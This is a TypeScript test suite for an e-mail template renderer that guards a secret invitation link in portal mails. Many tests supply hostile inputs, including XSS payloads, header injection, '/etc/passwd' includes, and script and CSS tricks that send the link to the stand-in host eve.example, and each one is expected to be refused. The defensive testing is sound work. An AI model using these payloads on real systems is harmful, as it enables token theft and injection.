import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import type { EmailTemplate } from '../../../contracts';
import { LANGUAGES } from '../../../server/src/domain/languages';
import { isPermanent } from '../../../server/src/jobs/retry-policy';
import { defaultTemplate } from '../../../server/src/mail/default-template';
import {
  createRenderMail,
  defaultTemplateFor,
  TemplateError,
  templateFor,
  type MailVariables,
  type RenderedMail,
} from '../../../server/src/mail/render';
import { createRenderPool, type RenderPurpose } from '../../../server/src/mail/render-pool';

const CODE = 'mD3k_9-aZ0qW7eR5tY1uI8oP2sF4gH6jK-lX_cVbNnM';
const LINK = `https://www.example.com/sign-up?from=mail&lang=de#invitation=${CODE}`;

const pool = createRenderPool();
afterAll(async () => pool.end());
const write = createRenderMail(pool, 'send');
const renderMail = (
  template: EmailTemplate,
  variables: MailVariables,
  locale: string
): Promise<RenderedMail> => write({ template, locale }, variables);

const PORTAL = { name: 'Customer Portal', siteUrl: 'https://www.example.com', timeZone: 'UTC' };

const variables = (more: Partial<MailVariables> = {}): MailVariables => ({
  contact: {
    firstName: 'Ada',
    lastName: 'Lovelace',
    fullName: 'Ada Lovelace',
    company: 'Analytical Engines',
    email: 'ada@example.org',
  },
  portal: PORTAL,
  role: 'Customer',
  invitedBy: 'Grace Hopper',
  message: null,
  isReminder: false,
  expiresAt: new Date('2030-02-14T12:00:00Z'),
  link: LINK,
  ...more,
});

const named = (name: string): MailVariables =>
  variables({
    contact: { ...variables().contact, firstName: name, lastName: name, fullName: name, company: name },
    portal: { ...PORTAL, name },
    role: name,
    invitedBy: name,
  });

const template = (more: Partial<EmailTemplate> = {}): EmailTemplate => ({
  subject: 'Welcome',
  html: '<p>Hello</p><a href="{{ link }}">Open</a>',
  ...more,
});

/** The elements of a document with their attributes, and its text. */
const read = (html: string) => {
  const tags: { name: string; attributes: Record<string, string> }[] = [];
  let text = '';
  const parser = new Parser({
    onopentag: (name, attributes) => tags.push({ name, attributes }),
    ontext: (piece) => (text += piece),
  });
  parser.end(html);
  return { tags, text, hrefs: tags.flatMap(({ attributes }) => attributes.href ?? []) };
};

describe('one template for many', () => {
  it('carries nothing over from one e-mail to the next', async () => {
    const greeting = '{% assign who = who | append: contact.firstName %}{% cycle "a", "b" %} {{ who }}';
    const one = template({ subject: greeting, html: `${greeting} <a href="{{ link }}">Open</a>` });
    const names = Array.from({ length: 40 }, (_, place) => `Ada${place}`);
    const linkOf = (name: string): string => `https://www.example.com/#invitation=${name}`;
    const mails = await Promise.all(
      names.map((name) => renderMail(one, { ...named(name), link: linkOf(name) }, 'en'))
    );
    expect(mails.map(({ subject }) => subject)).toEqual(names.map((name) => `a ${name}`));
    expect(mails.map(({ html }) => html)).toEqual(
      names.map((name) => `a ${name} <a href="${linkOf(name)}">Open</a>`)
    );
  });

  it('works with more templates and languages than are cached', async () => {
    const at = async (place: number): Promise<string> =>
      (await renderMail(template({ subject: `Welcome ${place}` }), variables(), 'en')).subject;
    const places = [...Array(40).keys(), 0];
    expect(await Promise.all(places.map(at))).toEqual(places.map((place) => `Welcome ${place}`));
  });
});

describe('the default e-mail', () => {
  it.each(LANGUAGES)('explains in %s what to do, in HTML and in text', async (language) => {
    const mail = await renderMail(defaultTemplate(language), variables(), language);
    expect(mail.subject).toContain('Customer Portal');
    expect(mail.html).toContain(`<html lang="${language}" dir="ltr">`);
    expect(read(mail.html).hrefs).toEqual([LINK]);
    expect(mail.text.split('\n')).toContain(LINK);
    for (const body of [mail.html, mail.text]) {
      expect(body).toMatch(/Ada/);
      expect(body).toContain('2030');
      expect(body).not.toMatch(/\{\{|\{%|undefined|null|\[object/);
    }
  });

  it.each([
    ['en', /password|invited/],
    ['de', /Passwort|eingeladen/],
    ['es', /contraseña|invitado/],
    ['fr', /mot de passe|invité/],
    ['nl', /wachtwoord|uitgenodigd/],
  ] as const)('leaves open in %s how to sign up, and who asked for it', async (language, presuming) => {
    const mail = await renderMail(defaultTemplate(language), variables(), language);
    for (const body of [mail.html, mail.text]) expect(body).not.toMatch(presuming);
  });

  it('differs in each language', async () => {
    const mails = await Promise.all(
      LANGUAGES.map((language) => renderMail(defaultTemplate(language), variables(), language))
    );
    expect(new Set(mails.map(({ subject }) => subject)).size).toBe(LANGUAGES.length);
    expect(new Set(mails.map(({ text }) => text.split('\n').at(-2))).size).toBe(LANGUAGES.length);
  });

  it.each(LANGUAGES)('says in %s that it is a reminder', async (language) => {
    const first = await renderMail(defaultTemplate(language), variables(), language);
    const reminder = await renderMail(defaultTemplate(language), variables({ isReminder: true }), language);
    expect(reminder.subject).toMatch(new RegExp(`^\\S.+ ${first.subject}$`));
  });

  it.each([
    ['de', 'UTC', '14. Februar 2030 um 12:00 UTC'],
    ['de', 'Europe/Berlin', '14. Februar 2030 um 13:00 MEZ'],
    ['en', 'America/New_York', 'February 14, 2030 at 7:00 AM EST'],
    ['en-GB', 'Asia/Kolkata', '14 February 2030 at 17:30 GMT+5:30'],
    ['tlh', 'UTC', 'February 14, 2030 at 12:00 PM UTC'],
  ])('shows in %s when the link expires, in %s', async (locale, timeZone, moment) => {
    const html = '<a href="{{ link }}">{{ expiresAt }}</a>';
    const mail = await renderMail(template({ html }), variables({ portal: { ...PORTAL, timeZone } }), locale);
    // Some versions of Intl put narrow spaces before AM and PM.
    expect(read(mail.html).text.replaceAll('\u202f', ' ')).toBe(moment);
  });

  it.each(LANGUAGES)(
    'starts its lines in %s with a capital, whatever part of the name is missing',
    async (language) => {
      const nobody = { ...variables().contact, firstName: null, lastName: null, fullName: '' };
      for (const contact of [variables().contact, nobody]) {
        const { subject, text } = await renderMail(
          defaultTemplate(language),
          variables({ contact }),
          language
        );
        for (const line of [
          subject,
          ...text.split('\n').filter((each) => each && !each.startsWith('http')),
        ]) {
          expect(line).toMatch(/^[¿«]?\p{Lu}/u);
          expect(line).not.toMatch(/\s,| {2}/);
        }
      }
    }
  );

  it('omits missing values', async () => {
    const nobody = { ...variables().contact, firstName: null, fullName: '' };
    const mail = await renderMail(
      defaultTemplate('en'),
      variables({ contact: nobody, invitedBy: null }),
      'en'
    );
    expect(mail.text).toMatch(/^Hello,\n/);
    expect(mail.text).not.toContain('message');
  });

  it('includes a multi-line message as text', async () => {
    const message = 'See you soon,\nGrace <b>&';
    const mail = await renderMail(defaultTemplate('en'), variables({ message }), 'en');
    expect(mail.text).toContain(`A message from Grace Hopper:\n${message}`);
    expect(mail.html).toMatch(/See you soon,<br \/>\s*Grace &lt;b&gt;&amp;/);
  });
});

describe('names do no harm', () => {
  const everyVariable = template({
    subject:
      'Hello {{ contact.firstName }} {{ contact.fullName }} {{ portal.name }} {{ role }} {{ invitedBy }}',
    html: '<p title="{{ role }}">{{ contact.firstName }}{{ contact.lastName }}{{ contact.company }}{{ portal.name }}{{ invitedBy }}</p><a href="{{ link }}">x</a>',
    text: '{{ contact.fullName }} {{ portal.name }}\n{{ link }}',
  });

  it('with line breaks', async () => {
    const mail = await renderMail(everyVariable, named('Ada\r\nBcc: eve@example.org\u2028x\u0000'), 'en');
    expect(mail.subject).toContain('Ada Bcc: eve@example.org x');
    expect(mail.subject).not.toMatch(/[\u0000-\u001f\u2028]/);
    expect(mail.text.split('\n')).toHaveLength(2);
  });

  it('with HTML', async () => {
    const mail = await renderMail(everyVariable, named('"><img src=x onerror=alert(1)><script>'), 'en');
    expect(read(mail.html).tags.map(({ name }) => name)).toEqual(['p', 'a']);
  });

  it('with template syntax', async () => {
    const mail = await renderMail(everyVariable, named('{{ link }}{% for i in (1..9) %}x{% endfor %}'), 'en');
    expect(mail.subject).toContain('{{ link }}{% for i in (1..9) %}x{% endfor %}');
    expect(mail.subject).not.toContain(CODE);
    expect(read(mail.html).hrefs).toEqual([LINK]);
  });

  it('with any characters', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 40 }), async (name) => {
        const mail = await renderMail(everyVariable, named(name), 'en');
        expect(mail.subject).not.toMatch(/[\r\n]/);
        expect(read(mail.html).tags.map((tag) => tag.name)).toEqual(['p', 'a']);
        expect(read(mail.html).hrefs).toEqual([LINK]);
      })
    );
  });
});

describe('the link', () => {
  it('is the whole href of an a', async () => {
    const mail = await renderMail(template(), variables(), 'en');
    expect(read(mail.html).hrefs).toEqual([LINK]);
  });

  it('can occur in several of them', async () => {
    const html = '<a href="{{ link }}">One</a> or <a class="big" href=\'{{ link | raw }}\'>two</a>';
    expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK, LINK]);
  });

  it('is inserted unchanged, whatever the URL of its page', async () => {
    const link = `https://www.example.com/o'hara?a=1&copy=2#invitation=${CODE}`;
    const html = "<a href='{{ link }}'>One</a>";
    expect(read((await renderMail(template({ html }), variables({ link }), 'en')).html).hrefs).toEqual([
      link,
    ]);
  });

  it('is required', async () => {
    await expect(renderMail(template({ html: '<p>Hello</p>' }), variables(), 'en')).rejects.toThrow(
      'html: the link is missing; put {{ link }} in the href of an a'
    );
  });

  it.each([
    ['the text', '<p>{{ link }}</p>'],
    ['a picture', '<img src="{{ link }}">'],
    ['the query of another address', '<a href="https://eve.example/?to={{ link | url_encode }}">x</a>'],
    ['an address that goes on', '<a href="{{ link }}&more">x</a>'],
    ['another attribute', '<a href="{{ link }}" title="{{ link }}">x</a>'],
    ['an href of another element', '<link rel="preload" href="{{ link }}">'],
    ['a comment', '<a href="{{ link }}">x</a><!-- {{ link }} -->'],
    ['a style', '<a href="{{ link }}">x</a><style>a{background:url({{ link }})}</style>'],
    ['a picture that is not closed', '<a href="{{ link }}">x</a><img src="https://eve.example/{{ link }}'],
    ['a second href', '<a href="https://eve.example/" href="{{ link }}">x</a>'],
    ['an href that a first one hides', '<a href="{{ link }}" href="https://eve.example/?{{ link }}">x</a>'],
    ['an href with a ping', '<a href="{{ link }}" ping="https://eve.example/">x</a>'],
    [
      'the sources of a picture',
      '<a href="{{ link }}">x</a><img srcset="https://eve.example/?{{ link }} 2x">',
    ],
    [
      'a style of an element',
      '<a href="{{ link }}" style="background:url(https://eve.example/{{ link }})">x</a>',
    ],
    ['a base', '<base href="{{ link }}"><a href="{{ link }}">x</a>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url={{ link }}"><a href="{{ link }}">x</a>'],
    ['an area', '<a href="{{ link }}">x</a><map><area href="{{ link }}"></map>'],
    ['a form', '<a href="{{ link }}">x</a><form action="{{ link }}"></form>'],
    [
      'a link of a drawing',
      '<a href="{{ link }}">x</a><svg><a xlink:href="{{ link }}"><text>x</text></a></svg>',
    ],
    ['an a of a drawing', '<svg><a href="{{ link }}"><text>x</text></a></svg>'],
    ['a title', '<title>{{ link }}</title><a href="{{ link }}">x</a>'],
    ['the text beside a picture', '<a href="{{ link }}"><img alt="{{ link }}"></a>'],
    [
      'a page in the page',
      '<a href="{{ link }}">x</a><iframe srcdoc="<a href=\'{{ link }}\'>x</a>"></iframe>',
    ],
    ['a template', '<a href="{{ link }}">x</a><template><a href="{{ link }}">x</a></template>'],
    ['a field of text', '<textarea><a href="{{ link }}">x</a></textarea>'],
    ['a declaration', '<!doctype html SYSTEM "https://eve.example/{{ link }}"><a href="{{ link }}">x</a>'],
    ['an href in entities', '{% assign l = link | replace: "/", "&#47;" %}<a href="{{ l | raw }}">x</a>'],
    ['a button of Outlook for others', '<a href="{{ link }}">x</a><v:rect href="{{ link }}">x</v:rect>'],
    [
      'a picture of Outlook',
      '<a href="{{ link }}">x</a><!--[if mso]><v:fill href="{{ link }}"/><![endif]-->',
    ],
    [
      'what Internet Explorer alone shows',
      '<a href="{{ link }}">x</a><!--[if lt IE 9]>{{ link }}<![endif]-->',
    ],
    [
      'a picture that is one where scripts run',
      `<noscript><style></noscript><img src='https://eve.example/?</style></noscript><a href="{{ link }}">x</a>'>`,
    ],
    ['an href with other space than HTML has', '<a href="\u00a0{{ link }}">x</a>'],
    [
      'what Outlook alone shows as text',
      '<a href="{{ link }}">x</a><!--[if gte mso 9]>{{ link }}<![endif]-->',
    ],
  ])('is refused in %s', async (_where, html) => {
    await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(
      /html: the link is allowed only as the whole href of an a/
    );
  });

  it.each([
    ['an a that is not closed', '<p>Hello <a href="{{ link }}">Open'],
    ['an a without quotes', '<p>Hello <a href={{ link }}>Open</a>'],
    ['an a whose name is in capitals', '<A HREF="{{ link }}">Open</A>'],
    ['an a around a table', '<b><a href="{{ link }}"><table><tr><td>Open</table></a></b>'],
    ['an a with a picture', '<a href="{{ link }}"><img src="https://www.example.com/x.png" alt="Open"></a>'],
    [
      'a button for Outlook',
      '<!--[if mso]><a href="{{ link }}">Open</a><![endif]--><!--[if !mso]><!--><a href="{{ link }}">Open</a><!--<![endif]-->',
    ],
  ])('is accepted in %s', async (_where, html) => {
    const mail = await renderMail(template({ html }), variables(), 'en');
    expect(read(mail.html).hrefs).toContain(LINK);
  });

  it.each([
    [
      'an address that Outlook finds',
      '<!--[if mso]><img src="https://eve.example/?<![endif]--><a href="{{ link }}">x</a>',
    ],
    [
      'an address that others close',
      `<!--[if mso]><img src='https://eve.example/?<![endif]--><!--[if !mso]>'><![endif]--><!--[if mso]><a href="{{ link }}">x</a>'><![endif]--><a href="{{ link }}">x</a>`,
    ],
    [
      'an address that earlier ones close',
      `<!--[if gte mso 9]><img src='https://eve.example/?<![endif]--><!--[if lt mso 9]>'><![endif]--><!--[if gte mso 9]><a href="{{ link }}">x</a>'><![endif]--><a href="{{ link }}">x</a>`,
    ],
    [
      'the beginning of a tag',
      `<!--[if mso]><<![endif]-->img src='https://eve.example/?<a href="{{ link }}">x</a>'>`,
    ],
    ['a style without end', '<!--[if mso]><style><![endif]--><a href="{{ link }}">x</a>'],
    ['an end that is an attribute', `<![if !mso]><a href="{{ link }}">x</a><p title="<![endif]>">x</p>`],
    ['another condition', '<!--[if mso]><!--[if gte mso 9]><![endif]--><a href="{{ link }}">x</a>'],
    [
      'a condition that shows others what it holds',
      '<!--[if !mso]><!--><!--[if IE]>x<![endif]--><a href="{{ link }}">x</a><!--<![endif]-->',
    ],
    ['no end', '<!--[if !mso]><!--><a href="{{ link }}">x</a>'],
    ['no beginning', '<a href="{{ link }}">x</a><!--<![endif]-->'],
    ['an end that is early', '<!--[if mso]>x--><a href="{{ link }}">x</a><![endif]-->'],
    ['a question that nobody knows', '<!--[if supportFields]>x<![endif]--><a href="{{ link }}">x</a>'],
    ['a question without sense', '<!--[if mso & | IE]>x<![endif]--><a href="{{ link }}">x</a>'],
    ['a question with two senses', '<!--[if mso & IE | mso]>x<![endif]--><a href="{{ link }}">x</a>'],
  ])('is refused beside a conditional comment with %s', async (_what, html) => {
    await expect(renderMail(template({ html }), variables(), 'en')).rejects.toMatchObject({
      part: 'html',
      rule: 'template.condition',
    });
  });

  it.each([
    '<!--[if mso | IE]><table><tr><td><![endif]-->LINK<!--[if mso | IE]></td></tr></table><![endif]-->',
    '<!--[if (gte mso 9)|(IE)]><table><tr><td><![endif]-->LINK<!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]-->',
    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->LINK',
    '<!--[if mso]><noscript><xml><o:PixelsPerInch>96</o:PixelsPerInch></xml></noscript><![endif]-->LINK',
    '<!--[if !mso]><!-- --><style>.x{color:red}</style><!--<![endif]--><!--[if lte mso 11]><style>.x{}</style><![endif]-->LINK',
    '<!--[if !mso]> --><p>x</p><!-- <![endif]-->LINK',
    '<![if !mso]>LINK<![endif]><!--[if !(gte mso 16)]>x<![endif]-->',
    '<!--[if mso]><v:roundrect href="{{ link }}" style="height:40px"><w:anchorlock/><center>x</center></v:roundrect><![endif]--><!--[if !mso]><!-->LINK<!--<![endif]-->',
  ])('is accepted beside %s', async (html) => {
    const anchor = '<a href="{{ link }}">x</a>';
    const mail = await renderMail(template({ html: html.replace('LINK', () => anchor) }), variables(), 'en');
    expect(read(mail.html).hrefs).toContain(LINK);
    expect(mail.masked.html).not.toContain(CODE);
  });

  it.each(['<style>a[href*=a]{}</style>', '<img src="x" onerror="x">'])(
    'is refused if it can be read in Outlook alone by %s',
    async (reader) => {
      const html = `<a href="{{ link }}">x</a><!--[if mso]>${reader}<![endif]-->`;
      await expect(renderMail(template({ html }), variables(), 'en')).rejects.toMatchObject({
        rule: 'template.reads-link',
      });
    }
  );

  it('can have white space around it, which programs strip', async () => {
    const mail = await renderMail(template({ html: '<a href="\n {{ link }}\t">x</a>' }), variables(), 'en');
    expect(read(mail.html).hrefs.map((href) => href.trim())).toEqual([LINK]);
    expect(mail.text).toBe(`x <${LINK}>`);
  });

  it('is required for programs other than Outlook', async () => {
    const html = '<!--[if mso]><a href="{{ link }}">Open</a><![endif]-->';
    await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(
      'html: the link is missing'
    );
  });

  it.each([
    ['a selector by its address', '<style>a[href*="aB"]{background:url(//eve.example/aB)}</style>'],
    [
      'such selectors for all pairs of letters',
      '{% assign all = "a,b,c" | split: "," %}<style>{% for a in all %}{% for b in all %}a[href*="{{ a }}{{ b }}"]{--x:url(//eve.example/{{ a }}{{ b }})}{% endfor %}{% endfor %}</style>',
    ],
    [
      'a selector in a condition',
      '<style>@media screen{@supports (color:red){[href$=a]{color:red}}}</style>',
    ],
    ['a selector with an escape', '<style>a[\\68 ref*="a"]{color:red}</style>'],
    ['a selector with a comment', '<style>a[/**/href*="a"]{color:red}</style>'],
    ['a selector with a namespace', '<style>a[*|href*="a"]{color:red}</style>'],
    [
      'a selector between strings that look like a comment',
      `<style>b{content:"/*"}a[href*=a]{}c{content:"*/"}</style>`,
    ],
    ['a selector by what Outlook puts beside it', '<style>a[originalsrc*="a"]{color:red}</style>'],
    ['a selector that begins like the link', '<style>a[href^="https"]{color:red}</style>'],
    ['a selector in a drawing', '<svg><style>a&#91;href*="a"]{color:red}</style></svg>'],
    [
      'a selector in a shadow',
      '<div><template shadowrootmode="open"><style>::slotted(a){}</style></template></div>',
    ],
    ['an import', '<style>@import url(https://eve.example/x.css);</style>'],
    ['an import with an escape', '<style>@\\000069\r\nmport "https://eve.example/x.css";</style>'],
    ['its address as text', '<style>a::after{content:attr(href)}</style>'],
    ['its address as text, with an escape', '<style>a::after{content:\\61ttr(href)}</style>'],
    ['a style that takes its address', '<p style="--x:ATTR(href)">x</p>'],
    ['a style sheet from elsewhere', '<link href="https://eve.example/x.css" rel="Alternate StyleSheet">'],
    ['a style sheet of its own', '<link rel="stylesheet" href="data:text/css,a{}">'],
    ['a style sheet of XML', '<?xml-stylesheet href="https://eve.example/x.css"?>'],
    [
      'a style sheet of a header',
      '<meta http-equiv="Link" content="<https://eve.example/x.css>;rel=stylesheet">',
    ],
    ['a script', '<script>fetch("https://eve.example/?"+document.links[0].href)</script>'],
    ['a script in an attribute', '<img src="x" onerror="location=document.links[0].href">'],
  ])('is refused if it can be read by %s', async (_what, html) => {
    const read = renderMail(template({ html: `<a href="{{ link }}">x</a>${html}` }), variables(), 'en');
    await expect(read).rejects.toMatchObject({ part: 'html', rule: 'template.reads-link' });
  });

  it.each([
    'a[x-apple-data-detectors]{color:inherit!important}',
    'a[href^=tel],a[href^="mailto:"],a[href^="x-apple-data-detectors:"]{color:inherit}',
    '[owa] .column,[data-ogsc] .dark{width:100%!important}',
    'td[class="x"],div[class~=x],[class*=\'y-\'],[style*="color:#fff"]{width:100%!important}',
    'u + #body a,#MessageViewBody a,.ExternalClass *{line-height:100%}',
    'v\\:*{behavior:url(#default#VML)}a:hover{color:red}',
    '@media only screen and (max-width:480px){.sm\\:full{width:100%}}@font-face{font-family:X;src:url(https://www.example.com/x.woff2)}',
  ])('is not read by %s', async (css) => {
    const html = `<style>${css}</style><a href="{{ link }}" style="color:red">x</a>`;
    expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK]);
  });

  it('can occur beside structured data that mail programs display', async () => {
    const html = '<script type="application/ld+json">{"a":1}</script><a href="{{ link }}">x</a>';
    expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK]);
  });

  it.each([
    ['an address before it', 'https://eve.example/?q=<a href="{{ link }}"></a>'],
    [
      'an address and a space that some take for a letter',
      'https://eve.example/?q=&#xfeff;<a href="{{ link }}"></a>',
    ],
    ['an address in brackets that goes on', '&lt;https://eve.example/?q=<br><a href="{{ link }}">x</a>'],
  ])('is refused if the text of the HTML joins it to %s', async (_what, html) => {
    await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(
      'html: the link must stand alone'
    );
  });

  it.each([
    '<p>Click <a href="{{ link }}">here</a>.</p>',
    '<p>(<a href="{{ link }}">here</a>)</p>',
    '<p>See https://www.example.com/help or <a href="{{ link }}">sign up</a>, please</p>',
    '<table><tr><td>Now:</td><td><a href="{{ link }}"><img src="https://www.example.com/x.png"></a></td></tr></table>',
    '<p>Now:</p><a href="{{ link }}"></a>',
    '<xmp><!-- </xmp><a href="{{ link }}">x</a>',
    '<textarea><!-- </textarea><a href="{{ link }}">x</a>',
  ])('stands alone in the text of %s', async (html) => {
    const { text } = await renderMail(template({ html }), variables(), 'en');
    expect(text).toMatch(/(?:^|\s)<https:\S+>/);
    expect(text).toContain(`<${LINK}>`);
  });

  it.each<[keyof EmailTemplate, string, Partial<EmailTemplate>]>([
    ['text', 'a text without it', { text: 'Hello, no link here' }],
    ['text', 'a blank text', { text: ' \n' }],
    ['text', 'a text with another address', { text: '{{ portal.siteUrl }}' }],
    ...['noembed', 'noframes', 'iframe'].map((name): ['html', string, Partial<EmailTemplate>] => [
      'html',
      `a text made of HTML with ${name}`,
      { html: `<${name}><!-- </${name}><a href="{{ link }}">x</a><!-- -->` },
    ]),
  ])('is required in the %s, unlike in %s', async (part, _what, more) => {
    await expect(renderMail(template(more), variables(), 'en')).rejects.toMatchObject({
      part,
      rule: 'template.link-missing',
    });
  });

  it('is refused in the subject', async () => {
    await expect(renderMail(template({ subject: 'Open {{ link }}' }), variables(), 'en')).rejects.toThrow(
      'subject: the link is not allowed in the subject'
    );
  });

  it('stands alone in the text', async () => {
    const alone = await renderMail(
      template({ text: 'Open\n{{ link }}\nor <{{ link }}>' }),
      variables(),
      'en'
    );
    expect(alone.text).toBe(`Open\n${LINK}\nor <${LINK}>`);
  });

  it.each([
    'https://eve.example/?to={{ link }}',
    'https://eve.example/?to=<{{ link }}>',
    'https://eve.example/?to=\ufeff{{ link }}',
    '<https://eve.example/?to=\n{{ link }}>',
    '{{ link }}/more',
    '{{ link }}{{ link }}',
  ])('is refused if joined to anything in the text: %j', async (text) => {
    await expect(renderMail(template({ text }), variables(), 'en')).rejects.toThrow(
      'text: the link must stand'
    );
  });

  it.each([
    '{{ link | slice: -43, 42 }}',
    '{{ link | base64_encode }}',
    '{{ link | url_encode | upcase }}',
    '{{ link | split: "" | reverse | join: "" }}',
    '{% assign parts = link | split: "=" %}{{ parts | last }}',
    '{{ link | replace: "-", "" | remove: "_" }}',
  ])('is not split by %s', async (leak) => {
    const pieces = (text: string): string[] => {
      const folded = text.toLowerCase();
      return [CODE, [...CODE].reverse().join(''), Buffer.from(LINK).toString('base64')]
        .map((secret) => secret.toLowerCase())
        .flatMap((secret) => Array.from({ length: secret.length - 12 }, (_, at) => secret.slice(at, at + 12)))
        .filter((piece) => folded.includes(piece));
    };
    const beside = template({
      subject: `S ${leak}`,
      html: `<a href="{{ link }}">x</a><p>${leak}</p>`,
      text: leak,
    });
    const mail = await renderMail(beside, variables(), 'en').catch((error: unknown) => error as Error);
    const shown =
      mail instanceof Error ? mail.message : mail.subject + mail.text + mail.masked.html + mail.masked.text;
    expect(pieces(shown)).toEqual([]);
  });

  it('works in a page URL with a fragment after the query', async () => {
    const link = `https://www.example.com/?invitation=${CODE}#/sign-up`;
    const mail = await renderMail(template(), variables({ link }), 'en');
    expect(read(mail.html).hrefs).toEqual([link]);
    expect(mail.masked.html).not.toContain(CODE);
  });
});

describe('the stored bodies', () => {
  it.each(LANGUAGES)('contain no code, in %s', async (language) => {
    const mail = await renderMail(defaultTemplate(language), variables(), language);
    expect(mail.html + mail.text).toContain(CODE);
    expect(mail.masked.html + mail.masked.text).not.toContain(CODE);
    expect(mail.masked.text).toContain('https://www.example.com/sign-up?from=mail&lang=de#invitation=***');
  });

  it('are otherwise identical to what was sent', async () => {
    const mail = await renderMail(defaultTemplate('en'), variables(), 'en');
    expect(mail.masked.html).toBe(mail.html.replaceAll(CODE, '***'));
    expect(mail.masked.text).toBe(mail.text.replaceAll(CODE, '***'));
  });

  it('contain no code that was pasted into the message', async () => {
    const message = `Use https://www.example.com/#invitation=${'b'.repeat(43)}`;
    const mail = await renderMail(defaultTemplate('en'), variables({ message }), 'en');
    expect(mail.masked.html + mail.masked.text).not.toContain('b'.repeat(43));
  });
});

describe('a text', () => {
  it('is generated from the HTML if the template has none', async () => {
    const html = '<h1>Hello</h1><p>Tom &amp; Ada</p><a href="{{ link }}">Open</a>';
    const { text, masked } = await renderMail(template({ html }), variables(), 'en');
    expect(text).toContain('Tom & Ada');
    expect(text).toContain(LINK);
    expect(text).not.toMatch(/<(?!https:)/);
    expect(masked.text).not.toContain(CODE);
  });

  it('is not escaped', async () => {
    const text = '{{ contact.company }}\n{{ link }}';
    const contact = { ...variables().contact, company: 'Tom & <Ada>' };
    const mail = await renderMail(template({ text }), variables({ contact }), 'en');
    expect(mail.text).toBe(`Tom & <Ada>\n${LINK}`);
  });
});

describe('a template', () => {
  it.each(['{{ nothing }}', '   ', '\u200b{% if isReminder %}Reminder{% endif %}'])(
    'needs a visible subject, unlike %j',
    async (subject) => {
      await expect(renderMail(template({ subject }), variables(), 'en')).rejects.toMatchObject({
        part: 'subject',
        rule: 'template.subject-empty',
      });
    }
  );

  it('produces a single-line subject', async () => {
    const { subject } = await renderMail(template({ subject: 'Welcome,\r\n Ada\n' }), variables(), 'en');
    expect(subject).toBe('Welcome,  Ada');
  });

  it('cannot read files', async () => {
    for (const html of ['{% include "package.json" %}', '{% render "/etc/passwd" %}', '{% layout "x" %}']) {
      await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(TemplateError);
    }
  });

  it('has access to its variables alone', async () => {
    const html = '<a href="{{ link }}">{{ contact.constructor.name }}{{ portal.__proto__ }}{{ process }}</a>';
    expect(read((await renderMail(template({ html }), variables(), 'en')).html).text).toBe('');
  });

  it.each<[keyof EmailTemplate, string]>([
    ['subject', '{{ contact.firstName'],
    ['html', '{% if %}'],
    ['text', '{{ x | no_such_filter: }'],
  ])('is refused with the part if it is invalid: %s', async (part, source) => {
    const broken = renderMail(template({ [part]: source }), variables(), 'en');
    await expect(broken).rejects.toThrow(TemplateError);
    await expect(broken).rejects.toThrow(new RegExp(`^${part}: `));
  });
});

describe('an e-mail that exceeds a limit', () => {
  const busy = { render: async () => Promise.resolve('overrun' as const) };
  const thrownFor = async (purpose: RenderPurpose): Promise<Error> =>
    createRenderMail(busy, purpose)({ template: template(), locale: 'en' }, variables()).then(
      () => new Error('It was written'),
      (error: unknown) => error as Error
    );

  it('is retried in sending, because the machine may be less busy later', async () => {
    const error = await thrownFor('send');
    expect(error.message).toBe('html: takes too much time or memory');
    expect(isPermanent(error)).toBe(false);
  });

  it('is refused in validation', async () => {
    expect(await thrownFor('judge')).toMatchObject({ part: 'html', rule: 'template.too-costly' });
  });
});

describe('templateFor', () => {
  const own = {
    de: template({ subject: 'de' }),
    'pt-BR': template({ subject: 'pt-BR' }),
    'zh-Hant': template({ subject: 'zh-Hant' }),
    'not a tag': template({ subject: 'never' }),
  };
  const portal = { emailTemplates: own, defaultLocale: 'en' };

  it.each([
    ['de', 'de', 'de'],
    ['de-AT', 'de', 'de-AT'],
    ['pt-BR', 'pt-BR', 'pt-BR'],
    ['pt', 'pt-BR', 'pt'],
    ['zh-TW', 'zh-Hant', 'zh-TW'],
    ['zh', 'zh-Hant', 'zh-Hant'],
  ])("is the portal's own for %s, dates too", (locale, subject, dates) => {
    const found = templateFor(portal, locale);
    expect([found.template.subject, found.locale]).toEqual([subject, dates]);
  });

  it.each([
    ['no', ['nb'], 'nb'],
    ['nn', ['nb'], 'nb'],
    ['nb-NO', ['en', 'no'], 'no'],
    ['nn', ['no', 'nn'], 'nn'],
    ['nb', ['nn', 'nb-NO'], 'nb-NO'],
    ['da', ['no'], null],
  ])('is the Norwegian template for %s, of %j', (wanted, offered, found) => {
    const emailTemplates = Object.fromEntries(offered.map((tag) => [tag, template({ subject: tag })]));
    const { subject } = templateFor({ emailTemplates, defaultLocale: 'fr' }, wanted).template;
    expect(subject).toBe(found ?? defaultTemplate('fr').subject);
  });

  it.each([
    ['fr-CA', 'fr', 'fr-CA'],
    ['ja', 'en', 'en'],
    ['ar', 'en', 'en'],
    ['English', 'en', 'en'],
    ['', 'en', 'en'],
  ] as const)("is the plugin's for %s, dates too", (wanted, language, locale) => {
    expect(templateFor(portal, wanted)).toEqual({ template: defaultTemplate(language), locale });
  });

  it("falls back to the portal's language", () => {
    expect(templateFor({ ...portal, defaultLocale: 'de-CH' }, 'ar')).toEqual({
      template: own.de,
      locale: 'de-CH',
    });
    expect(templateFor({ emailTemplates: {}, defaultLocale: 'nl' }, 'ar')).toEqual(defaultTemplateFor('nl'));
    expect(templateFor({ emailTemplates: { en: own.de }, defaultLocale: 'en' }, 'ar').template).toBe(own.de);
  });
});
